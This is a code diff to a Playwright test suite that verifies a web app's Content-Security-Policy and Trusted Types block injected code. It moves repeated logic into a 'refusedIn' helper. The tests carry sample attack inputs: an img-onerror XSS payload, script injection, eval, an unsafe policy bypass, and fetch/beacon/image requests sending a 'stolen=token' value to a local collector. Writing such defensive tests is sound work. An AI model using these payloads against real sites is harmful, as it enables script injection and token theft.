@@ -1,6 +1,7 @@
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
-import type { CspViolation } from './support/csp-violations';
+import type { Page } from '@playwright/test';
+import type { CspViolation, CspViolationMonitor } from './support/csp-violations';
 import { expect, test } from './support/fixtures';
 
 /** TypeScript's DOM types do not know Trusted Types yet. */
@@ -67,31 +68,30 @@ test.describe('the Content-Security-Policy bites', () => {
 
   test('eval and new Function are refused', async ({ page, cspViolations }) => {
     await page.goto('/logged-out');
-    let outcome: string[] = [];
-    const violations = await cspViolations.during(async () => {
-      // From a task of the page's own: code evaluated through DevTools may call eval regardless.
-      outcome = await page.evaluate(
-        () =>
-          new Promise<string[]>((resolve) =>
-            setTimeout(() =>
-              resolve(
-                [() => eval('"eval ran"'), () => new Function('return "Function ran"')()].map(
-                  (run) => {
-                    try {
-                      return String(run());
-                    } catch (error) {
-                      return (error as Error).name;
-                    }
-                  },
-                ),
+    const { outcome, refused } = await refusedIn(
+      page,
+      cspViolations,
+      () =>
+        // From a task of the page's own: code evaluated through DevTools may call eval regardless.
+        new Promise<string[]>((resolve) =>
+          setTimeout(() =>
+            resolve(
+              [() => eval('"eval ran"'), () => new Function('return "Function ran"')()].map(
+                (run) => {
+                  try {
+                    return String(run());
+                  } catch (error) {
+                    return (error as Error).name;
+                  }
+                },
               ),
             ),
           ),
-      );
-    });
+        ),
+    );
     expect(outcome).toEqual(['EvalError', 'EvalError']);
     // Trusted Types refuses the string first; script-src without 'unsafe-eval' would be next.
-    expect(events(violations).map(({ directive, blockedUri }) => [directive, blockedUri])).toEqual([
+    expect(refused).toEqual([
       ['require-trusted-types-for', 'trusted-types-sink'],
       ['require-trusted-types-for', 'trusted-types-sink'],
     ]);
@@ -102,34 +102,31 @@ test.describe('the Content-Security-Policy bites', () => {
     cspViolations,
   }) => {
     await page.goto('/logged-out');
-    let outcome: Record<string, string> = {};
-    const violations = await cspViolations.during(async () => {
-      outcome = await page.evaluate(() => {
-        const attempt = (run: () => unknown) => {
-          try {
-            run();
-            return 'allowed';
-          } catch (error) {
-            return (error as Error).name;
-          }
-        };
-        const main = document.querySelector('main') as HTMLElement;
-        return {
-          innerHTML: attempt(() => (main.innerHTML = '<img src=x onerror="alert(1)">')),
-          scriptText: attempt(() => {
-            const script = document.createElement('script');
-            script.text = 'window.__injected = "ran"';
-            document.head.append(script);
-          }),
-          // Angular's pass-through policy (bypassSecurityTrust…) is deliberately not allowed.
-          bypassPolicy: attempt(() =>
-            (window as unknown as TrustedTypesWindow).trustedTypes.createPolicy(
-              'angular#unsafe-bypass',
-              { createHTML: (html: string) => html },
-            ),
+    const { outcome, refused } = await refusedIn(page, cspViolations, () => {
+      const attempt = (run: () => unknown) => {
+        try {
+          run();
+          return 'allowed';
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      const main = document.querySelector('main') as HTMLElement;
+      return {
+        innerHTML: attempt(() => (main.innerHTML = '<img src=x onerror="alert(1)">')),
+        scriptText: attempt(() => {
+          const script = document.createElement('script');
+          script.text = 'window.__injected = "ran"';
+          document.head.append(script);
+        }),
+        // Angular's pass-through policy (bypassSecurityTrust…) is deliberately not allowed.
+        bypassPolicy: attempt(() =>
+          (window as unknown as TrustedTypesWindow).trustedTypes.createPolicy(
+            'angular#unsafe-bypass',
+            { createHTML: (html: string) => html },
           ),
-        };
-      });
+        ),
+      };
     });
     expect(outcome).toEqual({
       innerHTML: 'TypeError',
@@ -137,7 +134,7 @@ test.describe('the Content-Security-Policy bites', () => {
       bypassPolicy: 'TypeError',
     });
     expect(await page.locator('main img').count()).toBe(0);
-    expect(events(violations).map(({ directive, blockedUri }) => [directive, blockedUri])).toEqual([
+    expect(refused).toEqual([
       ['require-trusted-types-for', 'trusted-types-sink'],
       ['require-trusted-types-for', 'trusted-types-sink'],
       ['trusted-types', 'trusted-types-policy'],
@@ -167,9 +164,10 @@ test.describe('the Content-Security-Policy bites', () => {
       cspViolations,
     }) => {
       await page.goto('/logged-out');
-      let outcome: Record<string, string> = {};
-      const violations = await cspViolations.during(async () => {
-        outcome = await page.evaluate(async (origin) => {
+      const { outcome, refused } = await refusedIn(
+        page,
+        cspViolations,
+        async (origin) => {
           const fetched = await fetch(`${origin}/fetch?stolen=token`).then(
             () => 'sent',
             (error: Error) => error.name,
@@ -183,12 +181,11 @@ test.describe('the Content-Security-Policy bites', () => {
             img.src = `${origin}/image?stolen=token`;
           });
           return { fetched, image };
-        }, collectorOrigin);
-      });
+        },
+        collectorOrigin,
+      );
       expect(outcome).toEqual({ fetched: 'TypeError', image: 'error' });
-      expect(
-        events(violations).map(({ directive, blockedUri }) => [directive, blockedUri]),
-      ).toEqual(
+      expect(refused).toEqual(
         expect.arrayContaining([
           ['connect-src', `${collectorOrigin}/fetch?stolen=token`],
           ['connect-src', `${collectorOrigin}/beacon`],
@@ -212,4 +209,27 @@ test('a violation that no test takes fails the test: the guard every spec runs u
 
 function events(violations: CspViolation[]): CspViolation[] {
   return violations.filter(({ source }) => source === 'event');
+}
+
+/**
+ * Runs `script` in the page as injected code would run, and returns what it returned and the
+ * `[directive, blockedURI]` of every refusal the policy reported meanwhile.
+ */
+async function refusedIn<Result, Arg = undefined>(
+  page: Page,
+  cspViolations: CspViolationMonitor,
+  script: (arg: Arg) => Result | Promise<Result>,
+  arg?: Arg,
+): Promise<{ outcome: Result; refused: string[][] }> {
+  let outcome: Result | undefined;
+  const violations = await cspViolations.during(async () => {
+    outcome = await page.evaluate(script as (arg: unknown) => Result | Promise<Result>, arg);
+  });
+  return {
+    outcome: outcome as Result,
+    refused: events(violations).map(({ directive, blockedUri }) => [
+      directive ?? '',
+      blockedUri ?? '',
+    ]),
+  };
 }
